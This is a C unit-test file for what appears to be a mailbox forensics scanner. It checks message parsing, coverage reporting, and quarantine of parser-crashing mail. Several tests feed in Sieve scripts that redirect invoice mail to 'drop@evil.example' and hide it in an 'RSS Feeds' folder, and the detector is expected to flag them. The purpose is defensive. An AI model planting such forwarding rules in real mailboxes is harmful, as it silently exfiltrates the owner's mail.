@@ -1,0 +1,495 @@
+/* test_scan.c - evidence becomes facts, facts become findings, and what was not examined is said.
+ * With the real jailed workers. */
+#include "../../detect/scan_work.h"
+#include "../../parse/pool_hooks.h"
+#include "hostile.h"
+#include "sample_case.h"
+
+#include "base/clock.h"
+
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+struct box { /* a case and a scan of it */
+    struct sample sample;
+    struct scan *scan;
+    int64_t account, run, inbox, sent, feeds;
+    uint32_t uid;
+};
+
+static const struct scan_options options = {
+    .role = {.program = PROGRAM}, .workers = 1, .data_dir = DATA_DIR};
+
+static void must(bool ok, const struct error *err)
+{
+    if (!ok)
+        fail_msg("%s", err->text);
+}
+
+static int64_t add_folder(struct box *box, const char *name, enum folder_use use, const char *acl)
+{
+    struct folder folder = {.account = box->account,
+                            .name = name,
+                            .raw_name = name,
+                            .delimiter = '/',
+                            .use = use,
+                            .attributes = "",
+                            .uidvalidity = 1,
+                            .current = true,
+                            .acl = acl};
+    struct error err = {0};
+
+    must(folder_put(box->sample.cf, &folder, &err), &err);
+    return folder.id;
+}
+
+static int open_box(void **state)
+{
+    struct box *box = calloc(1, sizeof(*box));
+    struct account account = {.user = "owner@acme.example",
+                              .host = "mail.acme.example",
+                              .address = "",
+                              .server = "",
+                              .certificate = ""};
+    struct error err = {0};
+
+    assert_non_null(box);
+    sample_make(&box->sample);
+    must(casefile_begin(box->sample.cf, &err), &err);
+    must(run_begin(box->sample.cf, "acquire", "owner@mail.acme.example", &box->run, &err), &err);
+    must(account_put(box->sample.cf, &account, &err), &err);
+    box->account = account.id;
+    box->inbox = add_folder(box, "INBOX", FOLDER_INBOX, "");
+    box->sent = add_folder(box, "Sent", FOLDER_SENT, "");
+    box->feeds = add_folder(box, "RSS Feeds", FOLDER_PLAIN, "");
+    must(casefile_commit(box->sample.cf, &err), &err);
+    must(scan_open(&box->scan, box->sample.cf, &options, &err), &err);
+    *state = box;
+    return 0;
+}
+
+static int close_box(void **state)
+{
+    struct box *box = *state;
+
+    scan_close(box->scan);
+    sample_remove(&box->sample);
+    free(box);
+    return 0;
+}
+
+/* One message in a folder, its bytes as evidence. */
+static int64_t add_mail(struct box *box, int64_t folder, struct str bytes, struct hash *raw)
+{
+    struct message message = {.folder = folder,
+                              .uid = ++box->uid,
+                              .size = bytes.len,
+                              .received = 1750000000 + box->uid,
+                              .flags = "\\Seen"};
+    struct error err = {0};
+    struct hash hash;
+    int64_t id;
+
+    must(casefile_begin(box->sample.cf, &err), &err);
+    must(message_plan(box->sample.cf, &message, &id, &err), &err);
+    must(evidence_put(box->sample.cf, bytes, &hash, &err), &err);
+    must(message_fetched(box->sample.cf, id, &hash, &err), &err);
+    must(casefile_commit(box->sample.cf, &err), &err);
+    if (raw)
+        *raw = hash;
+    return id;
+}
+
+static int64_t add_letter(struct box *box, int64_t folder, const char *from, const char *to,
+                          const char *subject)
+{
+    char text[1024], date[CLOCK_TEXT];
+
+    clock_format(1750000000 + box->uid * 3600, date);
+    snprintf(text, sizeof(text),
+             "%sFrom: %s\r\nTo: %s\r\nSubject: %s\r\nDate: Sun, 15 Jun 2025 %.8s +0000\r\n"
+             "Message-ID: <m%u@acme.example>\r\n\r\nHello.\r\n",
+             folder == box->sent ? ""
+                                 : "Received: from x (x [192.0.2.7]) by mx; Sun, 15 Jun 2025 "
+                                   "10:00:00 +0000\r\n",
+             from, to, subject, date + 11, box->uid);
+    return add_mail(box, folder, str_of(text), NULL);
+}
+
+static void add_script(struct box *box, const char *name, bool active, const char *text)
+{
+    struct error err = {0};
+    struct hash raw;
+
+    must(casefile_begin(box->sample.cf, &err), &err);
+    must(evidence_put(box->sample.cf, str_of(text), &raw, &err), &err);
+    must(casefile_commit(box->sample.cf, &err), &err);
+    must(scan_script(box->scan, box->account, name, active, &raw, &err), &err);
+}
+
+static void finish(struct box *box)
+{
+    struct error err = {0};
+
+    must(scan_finish(box->scan, NULL, box->run, &err), &err);
+}
+
+static struct message message_of(struct box *box, struct arena *arena, int64_t id)
+{
+    struct error err = {0};
+    struct message message;
+
+    must(message_get(box->sample.cf, arena, id, &message, &err), &err);
+    return message;
+}
+
+/* Severity of the detector's worst finding, -1: it said nothing. gone: also what is no more. */
+static int worst_of(struct box *box, const char *detector, bool gone)
+{
+    struct arena arena = {0};
+    struct error err = {0};
+    struct finding *findings;
+    size_t count;
+    int worst = -1;
+
+    must(finding_list(box->sample.cf, &arena, gone, (struct page){.most = 1000}, &findings, &count,
+                      &err),
+         &err);
+    for (size_t i = 0; i < count; i++)
+        if (strcmp(findings[i].detector, detector) == 0 && (int)findings[i].severity > worst)
+            worst = (int)findings[i].severity;
+    arena_dispose(&arena);
+    return worst;
+}
+
+static void assert_covered(struct box *box, const char *check, enum coverage_state state,
+                           const char *words)
+{
+    struct arena arena = {0};
+    struct error err = {0};
+    struct coverage *rows;
+    size_t count, i;
+
+    must(coverage_list(box->sample.cf, &arena, &rows, &count, &err), &err);
+    for (i = 0; i < count && strcmp(rows[i].check, check) != 0; i++)
+        ;
+    if (i == count || rows[i].state != state || !strstr(rows[i].detail, words))
+        fail_msg("%s: %s (%s)", check, i < count ? coverage_name(rows[i].state) : "no row",
+                 i < count ? rows[i].detail : "");
+    arena_dispose(&arena);
+}
+
+static size_t journal_entries(struct box *box, const char *action)
+{
+    struct arena arena = {0};
+    struct error err = {0};
+    struct journal_row *rows;
+    size_t count, found = 0;
+
+    must(
+        journal_list(box->sample.cf, &arena, true, (struct page){.most = 500}, &rows, &count, &err),
+        &err);
+    for (size_t i = 0; i < count; i++)
+        found += strcmp(rows[i].action, action) == 0;
+    arena_dispose(&arena);
+    return found;
+}
+
+static void evidence_becomes_facts(void **state)
+{
+    struct box *box = *state;
+    int64_t id = add_letter(box, box->inbox, "Anna <anna@partner.example>", "owner@acme.example",
+                            "=?utf-8?q?H=C3=B3a_=C4=91=C6=A1n?=");
+    struct arena arena = {0};
+    struct message message;
+
+    finish(box);
+    message = message_of(box, &arena, id);
+    assert_int_equal(message.status, PARSE_OK);
+    assert_string_equal(message.from, "Anna <anna@partner.example>");
+    assert_string_equal(message.subject, "Hóa đơn");
+    assert_string_equal(message.message_id, "m0@acme.example");
+    assert_int_equal(message.direction, DIRECTION_IN);
+    arena_dispose(&arena);
+    assert_covered(box, "received-mail", COVERAGE_NOTHING, "1 messages examined");
+    assert_covered(box, "sent-mail", COVERAGE_NOT_CHECKED, "no sent mail");
+    assert_covered(box, "sign-ins", COVERAGE_NOT_CHECKED, "no sign-in log");
+}
+
+static void without_mail_nothing_is_clean(void **state)
+{
+    struct box *box = *state;
+
+    finish(box);
+    assert_covered(box, "received-mail", COVERAGE_NOT_CHECKED, "no mail in the case");
+    assert_covered(box, "attachments", COVERAGE_NOT_CHECKED, "no mail in the case");
+    assert_covered(box, "rules-sieve", COVERAGE_NOT_CHECKED, "no rules have been read");
+    assert_covered(box, "shared-folders", COVERAGE_NOT_CHECKED, "no access lists");
+}
+
+static void mail_not_fetched_is_counted_as_missing(void **state)
+{
+    struct message message = {.uid = 99, .size = 10, .received = 1750000000, .flags = ""};
+    struct box *box = *state;
+    struct error err = {0};
+    int64_t id;
+
+    add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "one");
+    message.folder = box->inbox;
+    must(casefile_begin(box->sample.cf, &err), &err);
+    must(message_plan(box->sample.cf, &message, &id, &err), &err);
+    must(casefile_commit(box->sample.cf, &err), &err);
+    finish(box);
+    assert_covered(box, "received-mail", COVERAGE_PARTLY, "1 not fetched yet");
+}
+
+static void which_way_a_mail_went_is_told(void **state)
+{
+    struct box *box = *state;
+    int64_t received =
+        add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "a");
+    int64_t sent =
+        add_letter(box, box->sent, "Owner <owner@acme.example>", "anna@partner.example", "b");
+    int64_t forged = add_letter(box, box->inbox, "owner@acme.example", "owner@acme.example", "c");
+    int64_t moved = add_letter(box, box->feeds, "owner@acme.example", "anna@partner.example", "d");
+    struct arena arena = {0};
+
+    finish(box);
+    assert_int_equal(message_of(box, &arena, received).direction, DIRECTION_IN);
+    assert_int_equal(message_of(box, &arena, sent).direction, DIRECTION_SENT);
+    assert_int_equal(message_of(box, &arena, forged).direction, DIRECTION_IN);
+    assert_int_equal(message_of(box, &arena, moved).direction, DIRECTION_SENT);
+    arena_dispose(&arena);
+}
+
+static void copies_of_a_mail_count_once(void **state)
+{
+    static const char text[] = "From: owner@acme.example\r\nTo: anna@partner.example\r\n"
+                               "Date: Sun, 15 Jun 2025 10:00:00 +0000\r\nSubject: x\r\n\r\nx\r\n";
+    struct box *box = *state;
+    int64_t one = add_mail(box, box->inbox, str_of(text), NULL);
+    int64_t two = add_mail(box, box->sent, str_of(text), NULL);
+    struct arena arena = {0};
+
+    finish(box);
+    assert_int_equal(box->scan->stored, 1);
+    assert_covered(box, "received-mail", COVERAGE_NOTHING, "1 messages examined");
+    assert_int_equal(message_of(box, &arena, one).direction, DIRECTION_SENT);
+    assert_int_equal(message_of(box, &arena, two).direction, DIRECTION_SENT);
+    arena_dispose(&arena);
+}
+
+static void what_is_offered_is_parsed_in_the_owners_loop(void **state)
+{
+    struct box *box = *state;
+    struct error err = {0};
+    struct hash raw;
+    int64_t deadline = clock_mono_ms() + 10000;
+
+    add_mail(box, box->inbox, str_of("Subject: x\r\n\r\nx\r\n"), &raw);
+    scan_offer(box->scan, &raw);
+    scan_offer(box->scan, &raw);
+    while (box->scan->stored == 0 && clock_mono_ms() < deadline)
+        must(scan_run(box->scan, &err), &err);
+    assert_int_equal(box->scan->stored, 1);
+    scan_offer(box->scan, &raw);
+    must(scan_run(box->scan, &err), &err);
+    assert_int_equal(pool_busy(box->scan->pool), 0);
+    finish(box);
+    assert_true(box->scan->stored <= 2);
+}
+
+static void a_mail_that_crashes_the_parser_costs_only_itself(void **state)
+{
+    struct box *box = *state;
+    struct arena arena = {0};
+    struct message message;
+    struct buf crash;
+    int64_t bad, good;
+    unsigned started;
+
+    pool_trust(box->scan->pool);
+    hostile_make("HC-06", 200000, &crash);
+    bad = add_mail(box, box->inbox, buf_as_str(&crash), NULL);
+    good = add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "one");
+    finish(box);
+    message = message_of(box, &arena, bad);
+    assert_int_equal(message.status, PARSE_CRASHED);
+    assert_true(message.limit[0]); /* how it ended */
+    assert_int_equal(message_of(box, &arena, good).status, PARSE_OK);
+    assert_int_equal(journal_entries(box, "parse-quarantined"), 1);
+    assert_covered(box, "received-mail", COVERAGE_PARTLY,
+                   "1 not analysed because the parser crashed");
+    started = pool_started(box->scan->pool);
+    assert_true(started >= SCAN_TRIES);
+    finish(box); /* it is left alone from now on */
+    assert_int_equal(pool_started(box->scan->pool), started);
+    assert_int_equal(journal_entries(box, "parse-quarantined"), 1);
+    buf_dispose(&crash);
+    arena_dispose(&arena);
+}
+
+static void a_mail_beyond_a_limit_is_examined_in_part_and_said_so(void **state)
+{
+    struct box *box = *state;
+    struct arena arena = {0};
+    struct message message;
+    struct buf deep;
+    int64_t id;
+
+    hostile_make("HC-02", 60, &deep);
+    id = add_mail(box, box->inbox, buf_as_str(&deep), NULL);
+    finish(box);
+    message = message_of(box, &arena, id);
+    assert_int_equal(message.status, PARSE_LIMIT);
+    assert_true(message.limit[0]);
+    assert_int_equal(journal_entries(box, "parse-limit"), 1);
+    assert_covered(box, "attachments", COVERAGE_PARTLY, "1 analysed in part");
+    buf_dispose(&deep);
+    arena_dispose(&arena);
+}
+
+static void a_script_becomes_rules_and_findings(void **state)
+{
+    struct box *box = *state;
+    struct error err = {0};
+
+    add_script(
+        box, "main", true,
+        "require [\"fileinto\"];\n# rule:[.]\nif header :contains \"subject\" \"invoice\" {\n"
+        "  redirect \"drop@evil.example\"; fileinto \"RSS Feeds\"; stop; }\n");
+    add_script(box, "old", false, "redirect :copy \"drop@evil.example\";\n");
+    must(scan_detect(box->scan, box->run, &err), &err);
+    assert_int_equal(worst_of(box, "rule-forwards-outside", false), SEVERITY_CRITICAL);
+    assert_int_equal(worst_of(box, "rule-money-or-security", false), SEVERITY_CRITICAL);
+    assert_true(worst_of(box, "rule-odd-name", false) >= 0);
+    assert_true(worst_of(box, "rule-inactive-script", false) >= 0);
+    assert_covered(box, "rules-sieve", COVERAGE_FOUND, "finding");
+}
+
+static void a_script_that_does_not_parse_is_not_clean(void **state)
+{
+    struct box *box = *state;
+    struct error err = {0};
+
+    add_script(box, "main", true, "keep;\nif header :contains \"subject\" {{{\n");
+    must(scan_detect(box->scan, box->run, &err), &err);
+    assert_covered(box, "rules-sieve", COVERAGE_PARTLY, "does not parse");
+}
+
+static void what_is_no_longer_there_is_gone_not_forgotten(void **state)
+{
+    struct box *box = *state;
+    struct error err = {0};
+    int64_t second;
+
+    add_script(box, "main", true, "redirect \"drop@evil.example\";\n");
+    must(scan_detect(box->scan, box->run, &err), &err);
+    assert_int_equal(worst_of(box, "rule-forwards-outside", false), SEVERITY_CRITICAL);
+    must(casefile_begin(box->sample.cf, &err), &err);
+    must(run_begin(box->sample.cf, "acquire", "again", &second, &err), &err);
+    must(casefile_commit(box->sample.cf, &err), &err);
+    add_script(box, "main", true, "keep;\n");
+    must(scan_detect(box->scan, second, &err), &err);
+    assert_int_equal(worst_of(box, "rule-forwards-outside", false), -1);
+    assert_int_equal(worst_of(box, "rule-forwards-outside", true), SEVERITY_CRITICAL);
+}
+
+static void the_same_scan_twice_gives_the_same_findings(void **state)
+{
+    struct box *box = *state;
+    struct arena arena = {0};
+    struct error err = {0};
+    struct finding *findings;
+    size_t first, second;
+
+    for (int i = 0; i < 4; i++) {
+        add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "a");
+        add_letter(box, box->sent, "owner@acme.example", "anna@partner.example", "a");
+    }
+    add_letter(box, box->feeds, "anna@partner.example", "owner@acme.example", "payment");
+    finish(box);
+    assert_int_equal(worst_of(box, "hiding-folder", false), SEVERITY_HIGH);
+    must(finding_list(box->sample.cf, &arena, true, (struct page){.most = 100}, &findings, &first,
+                      &err),
+         &err);
+    finish(box);
+    must(finding_list(box->sample.cf, &arena, true, (struct page){.most = 100}, &findings, &second,
+                      &err),
+         &err);
+    assert_int_equal(first, second);
+    arena_dispose(&arena);
+}
+
+static void a_scan_by_itself_is_a_run_with_its_entries(void **state)
+{
+    struct box *box = *state;
+    struct scan_job order = {
+        .case_path = box->sample.path, .cf = box->sample.cf, .options = options};
+    struct arena arena = {0};
+    struct error err = {0};
+    struct run *runs;
+    size_t count;
+    uint64_t wrong;
+
+    add_letter(box, box->inbox, "anna@partner.example", "owner@acme.example", "one");
+    must(job_run(scan_all, &order, &err), &err);
+    must(run_list(box->sample.cf, &arena, &runs, &count, &err), &err);
+    assert_string_equal(runs[0].kind, "scan");
+    assert_string_equal(runs[0].outcome, "ok");
+    assert_true(runs[0].ended > 0);
+    assert_int_equal(journal_entries(box, "scan-begin"), 1);
+    assert_int_equal(journal_entries(box, "scan-end"), 1);
+    assert_covered(box, "received-mail", COVERAGE_NOTHING, "1 messages examined");
+    must(sample_verify(box->sample.cf, &wrong, NULL, &err), &err);
+    assert_int_equal(wrong, 0);
+    arena_dispose(&arena);
+}
+
+static void missing_word_lists_are_an_error_in_words(void **state)
+{
+    struct box *box = *state;
+    struct scan_options wrong = options;
+    struct error err = {0};
+    struct scan *scan;
+
+    wrong.data_dir = "/nonexistent";
+    assert_false(scan_open(&scan, box->sample.cf, &wrong, &err));
+    assert_non_null(strstr(err.text, "cannot open the word list /nonexistent/"));
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test_setup_teardown(evidence_becomes_facts, open_box, close_box),
+        cmocka_unit_test_setup_teardown(without_mail_nothing_is_clean, open_box, close_box),
+        cmocka_unit_test_setup_teardown(mail_not_fetched_is_counted_as_missing, open_box,
+                                        close_box),
+        cmocka_unit_test_setup_teardown(which_way_a_mail_went_is_told, open_box, close_box),
+        cmocka_unit_test_setup_teardown(copies_of_a_mail_count_once, open_box, close_box),
+        cmocka_unit_test_setup_teardown(what_is_offered_is_parsed_in_the_owners_loop, open_box,
+                                        close_box),
+        cmocka_unit_test_setup_teardown(a_mail_that_crashes_the_parser_costs_only_itself, open_box,
+                                        close_box),
+        cmocka_unit_test_setup_teardown(a_mail_beyond_a_limit_is_examined_in_part_and_said_so,
+                                        open_box, close_box),
+        cmocka_unit_test_setup_teardown(a_script_becomes_rules_and_findings, open_box, close_box),
+        cmocka_unit_test_setup_teardown(a_script_that_does_not_parse_is_not_clean, open_box,
+                                        close_box),
+        cmocka_unit_test_setup_teardown(what_is_no_longer_there_is_gone_not_forgotten, open_box,
+                                        close_box),
+        cmocka_unit_test_setup_teardown(the_same_scan_twice_gives_the_same_findings, open_box,
+                                        close_box),
+        cmocka_unit_test_setup_teardown(a_scan_by_itself_is_a_run_with_its_entries, open_box,
+                                        close_box),
+        cmocka_unit_test_setup_teardown(missing_word_lists_are_an_error_in_words, open_box,
+                                        close_box),
+    };
+
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
